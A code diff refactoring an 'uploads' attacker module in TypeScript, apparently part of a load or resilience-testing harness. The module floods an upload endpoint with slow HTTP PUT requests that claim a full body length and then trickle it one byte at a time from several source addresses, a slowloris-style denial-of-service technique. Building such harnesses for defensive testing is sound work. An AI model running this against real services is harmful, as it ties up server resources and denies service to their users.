@@ -14,11 +14,17 @@ export const uploads: Attacker = {
   async start({ url, people }) {
     const tally = createTally()
     const { host } = new URL(url)
-    const stop = runLoops({ count: uploadsMax, addresses: 8, firstAddress: 50 }, async ({ index, address, signal }) => {
+    const input = { name: 'slow.bin', mimeType: 'application/octet-stream', bytes }
+    const announceFor = async (index: number) => {
       const person = people[index % people.length]
-      const input = { name: 'slow.bin', mimeType: 'application/octet-stream', bytes }
-      const announced = person ? await announce(url, person, input) : null
-      if (!announced) {
+      return person ? announce(url, person, input) : null
+    }
+    // each URL takes bytes until it has got all of them, so that they are asked for once
+    const announced = []
+    for (let index = 0; index < uploadsMax; index++) announced.push(await announceFor(index))
+    const stop = runLoops({ count: uploadsMax, addresses: 8, firstAddress: 50 }, async ({ index, address, signal }) => {
+      const path = announced[index]?.path
+      if (path === undefined) {
         tally.end('not announced')
         return pause(againMs * 5, signal)
       }
@@ -27,7 +33,7 @@ export const uploads: Attacker = {
       wire.onBytes = (answer) => {
         status ??= `status ${answer.toString('latin1', 9, 12)}`
       }
-      await wire.write(`PUT ${announced.path} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${bytes}\r\n\r\n`)
+      await wire.write(`PUT ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${bytes}\r\n\r\n`)
       while (wire.isOpen() && status === null && !signal.aborted) {
         await wire.write('x')
         tally.add(1)
